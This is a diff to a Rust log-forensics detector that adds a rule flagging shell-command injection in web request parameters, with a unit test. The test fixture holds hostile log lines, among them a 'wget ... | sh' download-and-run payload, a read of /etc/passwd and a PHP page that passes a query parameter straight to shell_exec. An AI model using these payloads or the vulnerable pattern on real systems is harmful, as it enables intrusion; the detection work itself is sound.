@@ -2,7 +2,9 @@
 //! - `MT-ENT-001`: a web request carried a shell command to a server-side script (a web shell in use);
 //! - `MT-ENT-002`: a client made Redis a replica of a master, or Redis loaded a module from a temp place
 //!   or right after such a replication (HeadCrab, P2Pinfect);
-//! - `MT-ENT-003`: PostgreSQL ran a shell command (`COPY ... FROM PROGRAM`: PG_MEM, CPU_HU, Kinsing).
+//! - `MT-ENT-003`: PostgreSQL ran a shell command (`COPY ... FROM PROGRAM`: PG_MEM, CPU_HU, Kinsing);
+//! - `MT-ENT-004`: a web request injected shell commands into a parameter the application hands to a
+//!   shell (`?host=127.0.0.1;id;uname -a`): the page is the application's own, context, never an artifact.
 //!
 //! A log line is history: alone it is low (the log is evidence, never an artifact). A finding is high
 //! when what the log names is still on the host — the script the request reached, the module file Redis
@@ -12,7 +14,7 @@
 use std::collections::BTreeMap;
 
 use minetrace_schemas::escape_bytes;
-use minetrace_schemas::findings::{Finding, Severity};
+use minetrace_schemas::findings::{Finding, Role, Severity};
 use minetrace_schemas::records::file::FileRecord;
 
 use crate::detect::finding::{file_subject, finding, FindingExt};
@@ -20,7 +22,9 @@ use crate::detect::rules;
 use crate::detect::runtime::support::{service_of, Names};
 use crate::detect::Context;
 use crate::indicators::PathClass;
-use crate::model::service_logs::{request_command, request_path, ServiceLogLine};
+use crate::model::service_logs::{
+    request_command, request_injection, request_path, ServiceLogLine,
+};
 use crate::parse::service_log::LogEvent;
 
 /// Log lines quoted per finding.
@@ -29,6 +33,7 @@ const QUOTED: usize = 8;
 pub fn detect(ctx: &Context) -> Vec<Finding> {
     let mut out = Vec::new();
     out.extend(web_commands(ctx));
+    out.extend(web_injections(ctx));
     out.extend(redis(ctx));
     out.extend(database(ctx));
     out
@@ -95,6 +100,61 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
             f = f
                 .subject(file_subject(file))
                 .evidence(format!("the script on disk: {}", file.path.escaped()));
+        }
+        out.push(f);
+    }
+    out
+}
+
+/// `MT-ENT-004`, one finding per requested page: requests whose parameter carried data, then shell
+/// commands ([`request_injection`]). Low: internet scanners spray such payloads at every page, and the log
+/// cannot say whether the page passed the value to a shell; what the commands left (a shell child of
+/// the server, a kit) is judged by its own rules, and the entry inference reads these lines for the way
+/// in. The page on disk is the application's own code with a bug, its owner's to fix: a context subject,
+/// never an artifact (a remediation never touches it). The log is the evidence.
+fn web_injections(ctx: &Context) -> Vec<Finding> {
+    let mut by_page: BTreeMap<
+        Vec<u8>,
+        Vec<(&ServiceLogLine, crate::model::service_logs::Injection)>,
+    > = BTreeMap::new();
+    for l in &ctx.model.service_logs {
+        let LogEvent::WebRequest { target, .. } = &l.log.event else {
+            continue;
+        };
+        if let Some(inj) = request_injection(target, ctx.iocs) {
+            by_page
+                .entry(request_path(target))
+                .or_default()
+                .push((l, inj));
+        }
+    }
+    let mut out = Vec::new();
+    for (page, hits) in by_page {
+        let mut f = finding(&rules::ENT_004, Severity::Low).evidence(format!(
+            "{} request(s) to {} appended shell commands to a parameter's value",
+            hits.len(),
+            escape_bytes(&page)
+        ));
+        for (l, inj) in hits.iter().take(QUOTED) {
+            let client = l
+                .log
+                .client
+                .map(|c| format!(" from {c}"))
+                .unwrap_or_default();
+            f = f.evidence(quote(
+                l,
+                format!(
+                    "request{client} injected {} ({})",
+                    escape_bytes(&inj.value),
+                    escape_bytes(inj.found.join(", ").as_bytes())
+                ),
+            ));
+        }
+        for file in scripts_at(ctx, &page) {
+            f = f.subject_as(file_subject(file), Role::Context).evidence(format!(
+                "the application's page on disk: {} (its bug is its owner's to fix; nothing to remove)",
+                file.path.escaped()
+            ));
         }
         out.push(f);
     }
@@ -308,6 +368,42 @@ mod tests {
         assert_eq!(found.len(), 1);
         assert_eq!(found[0].severity, Severity::Low);
         assert!(found[0].subjects.is_empty());
+    }
+
+    /// An injection into an application's page is evidence of how the attacker tried to get in, never a
+    /// web shell: low, the page a context subject (a remediation leaves it), and the download it carried
+    /// is no MT-ENT-001 making the page an artifact.
+    #[test]
+    fn an_injection_into_a_page_is_evidence_and_the_page_context() {
+        let iocs = Indicators::builtin();
+        let log: &[u8] = b"127.0.0.1 - - [14/Oct/2025:09:12:01 +0000] \"GET /status.php?host=10.0.0.1 HTTP/1.1\" 200 402\n\
+203.0.113.9 - - [14/Oct/2025:21:40:31 +0000] \"GET /status.php?host=127.0.0.1%3Bid%3Buname%20-a%3Bcat%20/etc/passwd HTTP/1.1\" 504 167\n\
+203.0.113.9 - - [14/Oct/2025:21:41:02 +0000] \"GET /status.php?host=127.0.0.1%3Bwget%20http://203.0.113.9/a%7Csh HTTP/1.1\" 200 402\n\
+203.0.113.9 - - [14/Oct/2025:21:41:09 +0000] \"GET /nothere.php?host=127.0.0.1%3Bid%3Bwhoami HTTP/1.1\" 404 12\n\
+10.0.0.4 - - [14/Oct/2025:21:42:00 +0000] \"GET /api/users?fields=name;id;email HTTP/1.1\" 200 88\n";
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/var/log/nginx/access.log", Some(log)),
+                fixture::file(
+                    b"/var/www/status/status.php",
+                    Some(b"<?php echo shell_exec('ping -c 1 ' . $_GET['host']);"),
+                ),
+            ],
+            vec![],
+        );
+        let found = detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        });
+        assert_eq!(found.len(), 1, "{found:#?}");
+        let f = &found[0];
+        assert_eq!((f.rule.as_str(), f.severity), ("MT-ENT-004", Severity::Low));
+        assert_eq!(
+            f.evidence.first().map(String::as_str),
+            Some("2 request(s) to /status.php appended shell commands to a parameter's value")
+        );
+        assert!(f.subjects.iter().all(|s| s.role == Role::Context), "{f:#?}");
+        assert!(f.subjects.iter().any(|s| matches!(&s.subject, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/var/www/status/status.php")));
     }
 
     #[test]
